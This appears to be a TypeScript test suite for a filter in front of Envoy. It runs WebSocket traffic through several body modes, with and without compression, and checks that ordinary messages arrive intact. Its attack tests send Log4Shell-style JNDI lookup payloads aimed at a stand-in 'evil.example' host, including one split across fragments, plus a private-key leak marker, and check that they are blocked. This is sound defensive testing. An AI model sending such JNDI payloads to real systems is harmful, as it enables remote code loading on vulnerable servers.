// A real WebSocket server and client through Envoy, in every body mode: messages pass both ways as they are sent, attacks in them are found.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import { WebSocket, WebSocketServer } from "ws";
import { configurationByMode, MODES } from "./body-routes.ts";
import { Changes } from "./changes.ts";
import { eventually, ProtectedApi, sendingTo, withWebSockets } from "./protected-api.ts";

const ROUNDS = 60;
const LEAK = "-----BEGIN RSA PRIVATE KEY-----";
const COMPRESSION = { threshold: 0 };

describe("WebSockets through Envoy 1.40.0", { concurrency: 4 }, () => {
  const received: string[] = [];
  let server: WebSocketServer;
  let api: ProtectedApi;

  before(async () => {
    server = new WebSocketServer({ host: "127.0.0.1", port: 0, perMessageDeflate: COMPRESSION });
    server.on("connection", (socket) => answer(socket, received));
    await new Promise((resolve) => server.once("listening", resolve));
    const { port } = server.address() as AddressInfo;
    const sendThere = sendingTo(port, "HTTP/1.1");
    api = await ProtectedApi.start({
      version: "1.40.0",
      configuration: configurationByMode({}),
      edit: (bootstrap) => {
        sendThere(bootstrap);
        withWebSockets(bootstrap);
      },
    });
  });
  after(async () => {
    await api?.assertHealthy();
    await api?.stop();
    for (const socket of server.clients) socket.terminate();
    server.close();
  });

  for (const mode of MODES) {
    for (const compressed of [false, true]) {
      describe(`${mode}, ${compressed ? "permessage-deflate" : "not compressed"}`, () => {
        const open = async (): Promise<Chat> => {
          const path = `/${mode}/${randomUUID()}`;
          return Chat.open(`ws://127.0.0.1:${api.port}${path}`, path, compressed);
        };
        benignTests(open);
        if (mode !== "NONE") attackTests(open, () => api, received);
      });
    }
  }
});

type Open = () => Promise<Chat>;

function benignTests(open: Open): void {
  test(`${ROUNDS} rounds, each side waits for the other → every message arrives, in order`, async () => {
    const chat = await open();
    for (let i = 0; i < ROUNDS; i++) {
      const text = i % 2 === 0 ? `It's round ${i}` : JSON.stringify({ round: i, note: "O'Brien's lamp" });
      chat.socket.send(text);
      await chat.has(`re: ${text}`);
    }
    await chat.close();
  });

  test("a message in fragments, and one of 200,000 bytes → arrive whole", async () => {
    const chat = await open();
    const parts = ['{"note":"two ', "lamps", ' please"}'];
    for (const [i, part] of parts.entries()) chat.socket.send(part, { fin: i === parts.length - 1 });
    await chat.has(`re: ${parts.join("")}`);
    const long = "two lamps ".repeat(20_000);
    chat.socket.send(long);
    await chat.has(`re: ${long}`);
    await chat.close();
  });

  test("bytes and pings → pass", async () => {
    const chat = await open();
    const ponged = new Promise((resolve) => chat.socket.once("pong", resolve));
    chat.socket.ping("still there?");
    await ponged;
    chat.socket.send(Buffer.from([0, 1, 2, 253, 254, 255]));
    await chat.has("bytes: 000102fdfeff");
    await chat.close();
  });
}

function attackTests(open: Open, api: () => ProtectedApi, received: string[]): void {
  const assertCut = async (chat: Chat, mark: string): Promise<void> => {
    await chat.ended();
    assert.equal(
      received.some((text) => text.includes(mark)),
      false,
      "the service must not have the message",
    );
    const event = await eventOf(api(), chat);
    assert.deepEqual([event.action, event.phase], ["reset", "request_body"]);
  };

  for (const [kind, wrap] of [
    ["text", (text: string) => text],
    ["JSON", (text: string) => JSON.stringify({ user: { name: text } })],
  ] as const) {
    test(`attack in the third message, ${kind} → the connection is cut, the service has not seen it`, async () => {
      const chat = await open();
      const mark = randomUUID();
      for (const text of ["one", "two"]) {
        chat.socket.send(text);
        await chat.has(`re: ${text}`);
      }
      chat.socket.send(wrap(`\${jndi:ldap://evil.example/${mark}}`));
      await assertCut(chat, mark);
    });
  }

  test("attack cut in two fragments → the connection is cut", async () => {
    const chat = await open();
    const mark = randomUUID();
    chat.socket.send("${jndi:ld", { fin: false });
    chat.socket.send(`ap://evil.example/${mark}}`, { fin: true });
    await assertCut(chat, mark);
  });

  test("leak from the service → the client does not get it, and the connection is cut", async () => {
    const chat = await open();
    chat.socket.send("say: fine");
    await chat.has("fine");
    chat.socket.send(`say64: ${Buffer.from(LEAK).toString("base64")}`);
    await chat.ended();
    assert.equal(chat.messages.includes(LEAK), false);
    const event = await eventOf(api(), chat);
    assert.deepEqual([event.action, event.phase, event.rules], ["reset", "response_body", ["wg-resp-004"]]);
  });
}

function eventOf(api: ProtectedApi, chat: Chat) {
  return eventually("event", () => api.events().find(({ path }) => path === chat.path));
}

/** Answers a text with `re: ` and itself, `say: x` with x, `say64: …` with what that decodes to, bytes with their hex form. */
function answer(socket: WebSocket, received: string[]): void {
  socket.on("error", () => {});
  socket.on("message", (data: Buffer, isBinary) => {
    if (isBinary) {
      socket.send(`bytes: ${data.toString("hex")}`);
      return;
    }
    const text = data.toString();
    received.push(text);
    if (text.startsWith("say: ")) socket.send(text.slice(5));
    else if (text.startsWith("say64: ")) socket.send(Buffer.from(text.slice(7), "base64").toString());
    else socket.send(`re: ${text}`);
  });
}

/** The client's side. */
class Chat {
  readonly socket: WebSocket;
  readonly path: string;
  readonly messages: string[] = [];
  private isClosed = false;
  private readonly changes = new Changes();

  private constructor(url: string, path: string, compressed: boolean) {
    this.path = path;
    this.socket = new WebSocket(url, { perMessageDeflate: compressed ? COMPRESSION : false });
    this.socket.on("message", (data: Buffer) => {
      this.messages.push(data.toString());
      this.changes.notify();
    });
    this.socket.on("error", () => {});
    this.socket.on("close", () => {
      this.isClosed = true;
      this.changes.notify();
    });
  }

  static async open(url: string, path: string, compressed: boolean): Promise<Chat> {
    const chat = new Chat(url, path, compressed);
    await new Promise((resolve, reject) => chat.socket.once("open", resolve).once("error", reject));
    return chat;
  }

  /** Waits for the next message, which must be `text`. */
  async has(text: string): Promise<void> {
    const what = `message ${text.slice(0, 60)}`;
    const state = await this.changes.until(what, () =>
      this.messages.includes(text) ? "there" : this.isClosed ? "closed" : undefined,
    );
    assert.equal(state, "there", what);
  }

  async ended(): Promise<void> {
    await this.changes.until("the connection's end", () => (this.isClosed ? true : undefined));
  }

  /** An ordinary end, as both sides see it. */
  async close(): Promise<void> {
    this.socket.close(1000);
    const code = await new Promise((resolve) => this.socket.once("close", resolve));
    assert.equal(code, 1000);
  }
}
